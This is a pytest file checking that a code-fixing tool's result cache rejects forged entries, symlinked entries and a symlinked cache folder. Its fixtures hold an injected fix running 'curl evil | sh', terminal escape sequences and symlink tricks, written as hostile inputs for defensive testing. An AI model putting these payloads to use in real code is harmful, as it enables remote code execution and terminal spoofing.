"""A `.gradfix_cache/` that comes with a checkout is hostile: its entries are forged, its names
are links to files elsewhere, the folder itself is a link. Real `gradfix` runs on real trees;
the entry names are computed as gradfix computes them (anyone can)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hostile import BUGGY, FIXED, run_gradfix

from codemods import rules
from codemods.cache import CACHE_DIR, Entry, ResultCache, valid_entry
from codemods.findings import Edit, Finding, Tier

ALL = frozenset(rules.RULES)
ESCAPE = "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\\x1b[2J"


def entry_path(tree: Path, source: str, unsafe: bool = False) -> Path:
    cache = ResultCache.at(tree)
    return cache.directory / cache._name(source.encode(), ALL, unsafe, False)


def forged_entries() -> tuple[bytes, bytes]:
    """What a pull request can put under an entry's name: an empty result (with a made-up
    signature), and one carrying an injected fix, negative lines and terminal escapes."""
    hidden = json.dumps({"findings": [], "error": None}).encode()
    evil_edit = {
        "start_line": -3,
        "start_column": 1,
        "end_line": 99,
        "end_column": 1,
        "replacement": "import os; os.system('curl evil | sh')",
        "cell": None,
    }
    finding = {
        "rule": "GF001",
        "line": -3,
        "column": 1,
        "end_line": 99,
        "end_column": 1,
        "message": f"all good {ESCAPE}",
        "tier": "safe",
        "edit": evil_edit,
        "cell": None,
        "file_line": None,
        "file_column": None,
        "file_edit": None,
    }
    injected = json.dumps({"findings": [finding], "error": None}).encode()
    return b"00" * 32 + b"\n" + hidden, injected


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "a.py").write_text(BUGGY)
    return tree


def test_forged_entries_hide_and_inject_nothing(tree: Path) -> None:
    honest = {
        fmt: run_gradfix(["check", "--no-cache", "--format", fmt, "."], tree).stdout
        for fmt in ("text", "json", "sarif")
    }
    assert "GF001" in honest["text"]
    entry = entry_path(tree, BUGGY)
    entry.parent.mkdir()
    hidden, injected = forged_entries()
    for forged, fmt in [(hidden, "text"), (injected, "json"), (injected, "sarif")]:
        entry.write_bytes(forged)
        result = run_gradfix(["check", "--format", fmt, "."], tree)
        assert result.stdout == honest[fmt]
        assert "\x1b" not in result.stdout and "curl" not in result.stdout
    entry.write_bytes(hidden)
    diff = run_gradfix(["fix", "--diff", "."], tree)
    assert diff.returncode == 1 and "+    total_loss += loss.item()" in diff.stdout
    entry.write_bytes(injected)
    assert run_gradfix(["fix", "."], tree).returncode == 0
    assert (tree / "a.py").read_text() == FIXED


def test_an_entry_planted_as_a_link_is_never_written_through(tree: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    entry = entry_path(tree, BUGGY)
    entry.parent.mkdir()
    entry.symlink_to(victim)
    (entry.parent / ".gitignore").symlink_to(victim)
    for args in (["check", "."], ["fix", "."]):
        result = run_gradfix(args, tree)
        assert "Traceback" not in result.stderr
        assert victim.read_text() == "precious\n"
    assert (tree / "a.py").read_text() == FIXED


def test_a_cache_folder_that_is_a_link_is_refused(tree: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tree / CACHE_DIR).symlink_to(elsewhere)
    first = run_gradfix(["check", "."], tree)
    second = run_gradfix(["check", "."], tree)
    assert first.returncode == second.returncode == 1
    assert first.stdout == second.stdout and "GF001" in first.stdout
    assert list(elsewhere.iterdir()) == []


def test_an_entry_signed_with_another_key_is_a_miss(tmp_path: Path) -> None:
    source = BUGGY.encode()
    mine = ResultCache(tmp_path, "salt")
    theirs = ResultCache(tmp_path, "salt", key=b"k" * 32)
    theirs.store(source, ALL, False, Entry())
    assert theirs.load(source, ALL, False) == Entry()
    assert mine.load(source, ALL, False) is None


LINES = ["x = 1", "total += loss", ""]


def finding(**changes: object) -> Finding:
    fields: dict[str, object] = {
        "rule": "GF001",
        "line": 2,
        "column": 1,
        "end_line": 2,
        "end_column": 14,
        "message": "accumulate loss.item()",
        "tier": Tier.SAFE,
        "edit": Edit(2, 1, 2, 14, "total += loss.item()"),
    }
    return Finding(**{**fields, **changes})  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "bad",
    [
        finding(rule="GF999"),
        finding(line=0, column=1),
        finding(line=-1),
        finding(line=9, end_line=9),
        finding(end_column=99),
        finding(message="done \x1b[31mred"),
        finding(message="two\nlines"),
        finding(edit=Edit(2, 1, 2, 14, "x\x07")),
        finding(edit=Edit(1, 1, 1, 3, "total")),  # does not cover its finding
    ],
)
def test_what_a_signed_entry_says_is_still_checked(bad: Finding) -> None:
    assert valid_entry(Entry((finding(),)), ALL, LINES)
    assert not valid_entry(Entry((bad,)), ALL, LINES)
    assert not valid_entry(Entry(error="-1:1: parse error: x"), ALL, LINES)
    assert not valid_entry(Entry(error="1:1: parse error: \x1b[2J"), ALL, LINES)
